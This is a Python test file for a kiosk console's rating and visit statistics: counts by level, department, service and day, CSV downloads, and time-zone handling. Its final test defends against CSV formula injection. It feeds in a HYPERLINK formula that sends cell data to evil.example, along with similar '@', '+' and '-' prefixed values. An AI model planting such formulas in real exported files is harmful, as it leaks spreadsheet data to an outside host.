"""Ratings (好差评) and service statistics: counted by the database, in the kiosk's words, as CSV."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import date, datetime, timedelta

from starlette.testclient import TestClient

from console.db import Database
from console.ingest import apply_batch, kiosk_day, parse
from console.models import DailyTally, Kiosk, KioskEvent, Role
from console.web.statistics import Period, rating_table, tally_table
from tests.console.web import add_account, sign_in

TODAY = date.today()


def at(day: date, hour: int = 12) -> float:
    return datetime.combine(day, datetime.min.time()).timestamp() + hour * 3600


def rated(
    db: Database,
    kiosk: str,
    when: float,
    level: str,
    *,
    department: str = "公安局",
    service: str = "户籍证明",
) -> None:
    with db.session() as session:
        session.add(
            KioskEvent(
                kiosk_id=kiosk,
                type="service_rated",
                at=when,
                details={"level": level, "department": department, "service": service},
                received_at=when,
                day=kiosk_day({}, when),  # as ingest writes it (a kiosk reporting no zone)
            )
        )


def fleet(db: Database) -> None:
    with db.session() as session:
        session.add_all([Kiosk(id="wh-001", group="east"), Kiosk(id="wh-002", group="west")])
    yesterday = TODAY - timedelta(days=1)
    rated(db, "wh-001", at(TODAY, 9), "very_satisfied")
    rated(db, "wh-001", at(TODAY, 10), "very_satisfied", department="人社局", service="社保查询")
    rated(db, "wh-002", at(yesterday, 23), "dissatisfied", department="人社局", service="社保查询")
    rated(db, "wh-002", at(yesterday, 0), "very_dissatisfied")
    # Long ago (outside the default week) and another event type: neither is counted.
    rated(db, "wh-001", at(TODAY - timedelta(days=30)), "satisfied")
    with db.session() as session:
        session.add(
            KioskEvent(kiosk_id="wh-001", type="sync_failed", at=at(TODAY, 11), details={}, received_at=0)
        )
        session.add_all(
            [
                DailyTally(day=TODAY.isoformat(), kiosk_id="wh-001", visits=10, prints=3),
                DailyTally(day=yesterday.isoformat(), kiosk_id="wh-001", visits=5, prints=1),
                DailyTally(day=yesterday.isoformat(), kiosk_id="wh-002", visits=7, prints=2),
                DailyTally(
                    day=(TODAY - timedelta(days=30)).isoformat(), kiosk_id="wh-002", visits=99, prints=9
                ),
            ]
        )


def week() -> Period:
    return Period(TODAY - timedelta(days=6), TODAY)


def test_ratings_are_counted_by_level_department_service_kiosk_and_day(console_db: Database) -> None:
    fleet(console_db)
    with console_db.session() as db:
        levels = rating_table(db, week(), "levels")
        departments = {row.key: row for row in rating_table(db, week(), "departments")}
        services = {row.key: row.total for row in rating_table(db, week(), "services")}
        kiosks = {row.key: row for row in rating_table(db, week(), "kiosks")}
        days = [(row.key, row.total) for row in rating_table(db, week(), "days")]
    assert len(levels) == 1
    assert levels[0].counts == {"very_satisfied": 2, "dissatisfied": 1, "very_dissatisfied": 1}
    assert levels[0].bad == 2
    assert departments[("公安局",)].counts == {"very_satisfied": 1, "very_dissatisfied": 1}
    assert departments[("人社局",)].total == 2
    assert services == {("公安局", "户籍证明"): 2, ("人社局", "社保查询"): 2}
    assert kiosks[("wh-001",)].counts == {"very_satisfied": 2}
    assert kiosks[("wh-002",)].bad == 2
    # The local day: 00:xx and 23:xx yesterday are both yesterday.
    assert days == [(((TODAY - timedelta(days=1)).isoformat(),), 2), ((TODAY.isoformat(),), 2)]


def test_a_group_counts_only_its_kiosks(console_db: Database) -> None:
    fleet(console_db)
    east = Period(TODAY - timedelta(days=6), TODAY, "east")
    with console_db.session() as db:
        assert [row.key for row in rating_table(db, east, "kiosks")] == [("wh-001",)]
        assert [(row.key, row.visits) for row in tally_table(db, east, "visits_kiosks")] == [
            (("wh-001",), 15)
        ]


def test_visits_and_prints_by_day_and_kiosk(console_db: Database) -> None:
    fleet(console_db)
    yesterday = (TODAY - timedelta(days=1)).isoformat()
    with console_db.session() as db:
        by_day = [(row.key, row.visits, row.prints) for row in tally_table(db, week(), "visits_days")]
        by_kiosk = [(row.key, row.visits) for row in tally_table(db, week(), "visits_kiosks")]
        both = len(tally_table(db, week(), "tallies"))
    assert by_day == [((yesterday,), 12, 3), ((TODAY.isoformat(),), 10, 3)]
    assert by_kiosk == [(("wh-001",), 15), (("wh-002",), 7)]
    assert both == 3


def test_the_page_shows_the_levels_in_the_kiosks_words(
    console_client: TestClient, console_db: Database
) -> None:
    fleet(console_db)
    add_account(console_db, "li", Role.VIEWER)
    sign_in(console_client, "li")
    page = console_client.get("/statistics", headers={"accept-language": "zh-CN"})
    assert page.status_code == 200, page.text
    for words in ("非常满意", "满意", "基本满意", "不满意", "非常不满意", "社保查询", "wh-002"):
        assert words in page.text
    console_client.cookies.set("lang", "en")
    english = console_client.get("/statistics")
    assert "Very dissatisfied" in english.text and "Basically satisfied" in english.text


def test_the_default_period_is_the_last_seven_days(console_client: TestClient, console_db: Database) -> None:
    add_account(console_db, "li", Role.VIEWER)
    sign_in(console_client, "li")
    page = console_client.get("/statistics")
    assert f'value="{(TODAY - timedelta(days=6)).isoformat()}"' in page.text
    assert f'value="{TODAY.isoformat()}"' in page.text


def test_a_bad_date_is_refused_plainly(console_client: TestClient, console_db: Database) -> None:
    add_account(console_db, "li", Role.VIEWER)
    sign_in(console_client, "li")
    assert console_client.get("/statistics?from=yesterday").status_code == 400
    assert console_client.get("/statistics?from=2020-01-01&to=2026-01-01").status_code == 400


def test_each_table_downloads_as_csv(console_client: TestClient, console_db: Database) -> None:
    fleet(console_db)
    add_account(console_db, "li", Role.VIEWER)
    sign_in(console_client, "li")
    console_client.cookies.set("lang", "zh_CN")
    for table in (
        "levels",
        "departments",
        "services",
        "kiosks",
        "days",
        "visits_days",
        "visits_kiosks",
        "tallies",
    ):
        answer = console_client.get(f"/statistics/{table}.csv")
        assert answer.status_code == 200, table
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
    kiosks = list(csv.reader(io.StringIO(console_client.get("/statistics/kiosks.csv").text.lstrip("\ufeff"))))
    assert kiosks[0][:2] == ["终端", "非常满意"]
    assert ["wh-002", "0", "0", "0", "1", "1", "2", "2"] in kiosks
    east = console_client.get("/statistics/tallies.csv?group=east").text
    assert "wh-001" in east and "wh-002" not in east
    assert console_client.get("/statistics/residents.csv").status_code == 404
    # A group named in Chinese: the file's name keeps what a header can carry.
    assert console_client.get("/statistics/kiosks.csv?group=东区").status_code == 200


def test_the_tables_are_counted_quickly_for_a_big_fleet(console_db: Database) -> None:
    """5,000 kiosks, 50,000 ratings and a week of tallies: the whole page's tables well under a second."""
    now = time.time()
    levels = ["very_satisfied", "satisfied", "basically_satisfied", "dissatisfied", "very_dissatisfied"]
    with console_db.session() as db:
        db.execute(
            Kiosk.__table__.insert(),
            [{"id": f"k{n:05d}", "sync_group": f"g{n % 10}"} for n in range(5000)],
        )
        db.execute(
            KioskEvent.__table__.insert(),
            [
                {
                    "kiosk_id": f"k{n % 5000:05d}",
                    "type": "service_rated",
                    "at": now - n * 10,
                    "details": {"level": levels[n % 5], "department": f"d{n % 20}", "service": f"s{n % 200}"},
                    "received_at": now,
                }
                for n in range(50000)
            ],
        )
        db.execute(
            DailyTally.__table__.insert(),
            [
                {
                    "day": (TODAY - timedelta(days=d)).isoformat(),
                    "kiosk_id": f"k{n:05d}",
                    "visits": 3,
                    "prints": 1,
                }
                for n in range(5000)
                for d in range(7)
            ],
        )
    started = time.perf_counter()
    with console_db.session() as db:
        for by in ("levels", "departments", "services", "kiosks", "days"):
            rating_table(db, week(), by)
        for by in ("visits_days", "visits_kiosks"):
            tally_table(db, week(), by)
    elapsed = time.perf_counter() - started
    assert elapsed < 3.0, f"the statistics took {elapsed:.2f} s"


def test_a_rating_and_a_visit_at_the_same_moment_count_on_the_same_day(console_db: Database) -> None:
    """Both by the kiosk's own day (its reported time zone), not the console's: late in the
    console's evening it is already the next day for a kiosk at UTC+14."""
    moment = at(TODAY - timedelta(days=1), 23) + 1800
    clock = {"clock": {"synchronized": True, "timezone": "Etc/GMT-14"}}
    messages = [
        parse("kiosk/v1/far/reported", json.dumps(clock).encode(), moment),
        parse(
            "kiosk/v1/far/event",
            json.dumps(
                {
                    "type": "service_rated",
                    "at": moment,
                    "level": "satisfied",
                    "department": "d",
                    "service": "s",
                }
            ).encode(),
            moment,
        ),
        parse("kiosk/v1/far/telemetry", json.dumps({"visits_today": 1, "prints_today": 0}).encode(), moment),
    ]
    with console_db.session() as session:
        apply_batch(session, messages, moment)
    with console_db.session() as db:
        ratings = [row.key for row in rating_table(db, week(), "days")]
        visits = [row.key for row in tally_table(db, week(), "visits_days")]
    assert ratings == visits == [(TODAY.isoformat(),)]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(
    console_client: TestClient, console_db: Database
) -> None:
    """Department and service names come from kiosks: a cell starting with = + - @ tab or CR gets a
    leading ' so that a spreadsheet shows it as text; numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    rated(console_db, "wh-001", at(TODAY, 9), "satisfied", department=formula, service="@SUM(1+1)")
    rated(console_db, "+wh-2", at(TODAY, 9), "satisfied", department="-1", service="\tx")
    add_account(console_db, "li", Role.VIEWER)
    sign_in(console_client, "li")
    text = console_client.get("/statistics/services.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + formula, "'@SUM(1+1)", "0", "1", "0", "0", "0", "1", "0"] in rows
    assert ["'-1", "'\tx", "0", "1", "0", "0", "0", "1", "0"] in rows
    kiosks = list(csv.reader(io.StringIO(console_client.get("/statistics/kiosks.csv").text.lstrip("\ufeff"))))
    assert ["'+wh-2", "0", "1", "0", "0", "0", "1", "0"] in kiosks
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows + kiosks for cell in row)
